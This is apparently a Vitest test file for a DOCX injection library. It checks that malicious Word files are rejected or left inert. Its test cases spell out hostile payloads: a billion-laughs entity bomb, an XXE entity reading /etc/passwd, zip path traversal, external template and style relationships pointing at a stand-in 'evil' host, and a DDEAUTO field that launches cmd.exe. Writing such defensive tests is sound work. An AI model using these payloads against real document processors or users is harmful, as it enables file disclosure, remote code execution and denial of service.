import { describe, expect, test } from 'vitest';
import { injectIntoDocx } from '../../../../shared/docx/injectIntoDocx';
import { inspectDocx } from '../../../../shared/docx/inspectDocx';
import { changed, filesOf } from '../../../support/corpus/agencyCorpus';
import { expectOutsideUnchanged } from '../../../support/corpus/outsideBytes';
import { zipAs } from '../../../support/corpus/zipVariants';
import { aDocx, aParagraphXml } from '../../../support/docxFiles';
import { aParagraph } from '../../../support/sampleWordDocument';

const usual = aDocx({ body: aParagraphXml('{{요구사항}}') });
const insertions = [
  { place: { kind: 'placeholder', text: '{{요구사항}}' } as const, parts: [{ nodes: [aParagraph('글')] }] },
];
const inject = (bytes: Uint8Array) => injectIntoDocx({ bytes, fileName: '문서.docx', insertions });
const main = 'word/document.xml';
const withMain = (change: (xml: string) => string) => changed(usual, main, change);
const text = (xml: string) => new TextEncoder().encode(xml);
const megabyte = 1024 * 1024;

/** Nothing here may take longer, whatever was put into it. */
const limit = 5_000;

describe('a hostile document is refused for what it is', () => {
  const laughs = `<!DOCTYPE l [<!ENTITY a "하">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>`;
  const afterDeclaration = (doctype: string) => (xml: string) => xml.replace(/\?>\s*/, `?>${doctype}`);
  const cases: [string, () => Uint8Array, string][] = [
    [
      'a main part of 100 MB of blanks',
      () => withMain((xml) => xml.replace('<w:body>', `<w:body>${' '.repeat(100 * megabyte)}`)),
      'documentTooComplex',
    ],
    [
      'a million empty paragraphs',
      () => withMain((xml) => xml.replace('<w:body>', `<w:body>${'<w:p/>'.repeat(1_000_000)}`)),
      'documentTooComplex',
    ],
    [
      'a million runs of one letter',
      () =>
        withMain((xml) =>
          xml.replace('<w:body>', `<w:body><w:p>${'<w:r><w:t>a</w:t></w:r>'.repeat(1_000_000)}</w:p>`),
        ),
      'documentTooComplex',
    ],
    [
      'ten thousand parts',
      () =>
        zipAs(
          [
            ...filesOf(usual),
            ...Array.from({ length: 10_000 }, (_, index): [string, Uint8Array] => [
              `word/media/${index}.bin`,
              new Uint8Array(1),
            ]),
          ],
          {},
        ),
      'documentTooComplex',
    ],
    ['entities that multiply', () => withMain(afterDeclaration(laughs)), 'documentTooComplex'],
    [
      'an entity that reads a file',
      () => withMain(afterDeclaration('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')),
      'documentTooComplex',
    ],
    [
      'an entity in the styles',
      () => changed(usual, 'word/styles.xml', afterDeclaration('<!DOCTYPE x [<!ENTITY e "x">]>')),
      'documentTooComplex',
    ],
    [
      'an entity in the content types',
      () => changed(usual, '_rels/.rels', afterDeclaration('<!DOCTYPE x [<!ENTITY e "x">]>')),
      'documentTooComplex',
    ],
    [
      'names that lead out of the archive',
      () => zipAs([...filesOf(usual), ['../../evil.xml', text('<x/>')]], {}),
      'damagedDocument',
    ],
    [
      'names of Windows devices',
      () => zipAs([...filesOf(usual), ['word/con.xml', text('<x/>')]], {}),
      'damagedDocument',
    ],
    [
      'two main parts of one name',
      () => zipAs([...filesOf(usual), ['word/DOCUMENT.xml', text('<x/>')]], {}),
      'damagedDocument',
    ],
    [
      'tags without end',
      () => withMain((xml) => xml.replace('<w:body>', `<w:body>${'<w:p>'.repeat(100_000)}`)),
      'documentTooComplex',
    ],
    [
      'an attribute without end',
      () => withMain((xml) => xml.replace('<w:body>', `<w:body w:a="${'x'.repeat(megabyte)}`)),
      'damagedDocument',
    ],
    [
      'a main part on another computer',
      () =>
        changed(usual, '_rels/.rels', (xml) =>
          xml.replace(
            'Target="word/document.xml"',
            'Target="http://evil/document.xml" TargetMode="External"',
          ),
        ),
      'notWordDocument',
    ],
    [
      'a main part that leads to itself',
      () =>
        changed(usual, '_rels/.rels', (xml) =>
          xml.replace('Target="word/document.xml"', 'Target="_rels/.rels"'),
        ),
      'notWordDocument',
    ],
  ];
  test.each(cases)('%s', { timeout: 4 * limit }, (_, made, type) => {
    const bytes = made();
    const start = performance.now();
    const result = inject(bytes);
    const inspected = inspectDocx(bytes, '문서.docx');
    expect(result).toMatchObject({ ok: false, failure: { type } });
    expect(inspected).toMatchObject({ ok: false, failure: { type } });
    expect(performance.now() - start).toBeLessThan(2 * limit);
  });
});

describe('what could do harm when it is opened is left as it is and does nothing here', () => {
  const relationship = (more: string) => (xml: string) =>
    xml.replace('</Relationships>', `${more}</Relationships>`);
  const rels = 'word/_rels/document.xml.rels';
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const field = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
  test.each<[string, Uint8Array]>([
    [
      'a template on another computer',
      changed(
        usual,
        rels,
        relationship(
          `<Relationship Id="x1" Type="${office}/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>`,
        ),
      ),
    ],
    [
      'styles on another computer',
      changed(
        usual,
        rels,
        relationship(
          `<Relationship Id="x1" Type="${office}/styles" Target="\\\\evil\\s.xml" TargetMode="External"/>`,
        ),
      ),
    ],
    [
      'relationships that go round in a circle',
      zipAs(
        [
          ...filesOf(
            changed(
              usual,
              rels,
              relationship(`<Relationship Id="x1" Type="${office}/header" Target="document.xml"/>`),
            ),
          ),
          [
            'word/_rels/styles.xml.rels',
            text(
              `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${office}/x" Target="document.xml"/></Relationships>`,
            ),
          ],
        ],
        {},
      ),
    ],
    [
      'a field that starts a program',
      withMain((xml) =>
        xml.replace(
          '<w:body>',
          `<w:body><w:p>${field('begin')}<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>${field('separate')}${field('end')}</w:p>`,
        ),
      ),
    ],
    [
      'macros',
      aDocx({ body: aParagraphXml('{{요구사항}}'), more: { 'word/vbaProject.bin': 'Sub AutoOpen' } }),
    ],
  ])('%s', (_, bytes) => {
    const result = inject(bytes);
    if (!result.ok) throw new Error(JSON.stringify(result.failure));
    expectOutsideUnchanged(bytes, result.value.bytes, main);
  });
});
